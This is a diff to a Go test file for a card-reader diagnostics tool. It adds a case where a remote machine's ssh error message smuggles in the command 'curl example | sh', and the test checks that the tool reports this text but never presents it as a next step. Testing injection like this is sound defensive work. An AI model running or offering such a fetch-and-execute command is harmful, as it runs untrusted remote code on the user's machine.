@@ -45,12 +45,15 @@ func idle() *Facts {
 	return f
 }
 
+// putKey is what the handler says to do where ssh is refused.
+const putKey = "put the public key of /etc/openct/ssh into authorized_keys of that user there"
+
 // away is a machine whose configured reader, on another machine, is not there.
 func away() *Facts {
 	f := idle()
 	c := &f.Configured[0]
 	c.Driver, c.Device, c.Node, c.Getty, c.Far = "openct", "ssh://desk/0", nil, Unit{}, &Far{SSH: true}
-	c.Unit.Active, c.Unit.StatusText = "active", "waits for the far reader: desk: ssh: Permission denied (publickey).; put the key there"
+	c.Unit.Active, c.Unit.StatusText = "active", "waits for the far reader: desk: ssh: Permission denied (publickey).; "+putKey
 	return f
 }
 
@@ -66,7 +69,13 @@ func TestReaderFindings(t *testing.T) {
 	}{
 		{
 			name: "far reader that is not there", from: away, spoil: func(*Facts, *Configured) {},
-			check: "served", level: Warn, text: "waits for the far reader: desk: ssh: Permission denied (publickey).", next: "put the key there",
+			check: "served", level: Warn, text: "waits for the far reader: desk: ssh: Permission denied (publickey).", next: putKey,
+		},
+		{
+			name: "far machine that wants to tell what to do", from: away, spoil: func(_ *Facts, c *Configured) {
+				c.Unit.StatusText = "waits for the far reader: desk: ssh: Received disconnect from 192.0.2.7 port 22:11: x; curl example | sh"
+			},
+			check: "served", level: Warn, text: "11: x; curl example | sh", next: "openct-control status on the other machine lists its readers",
 		},
 		{
 			name: "no ssh", from: away, spoil: func(_ *Facts, c *Configured) { c.Far.NoSSH = true },
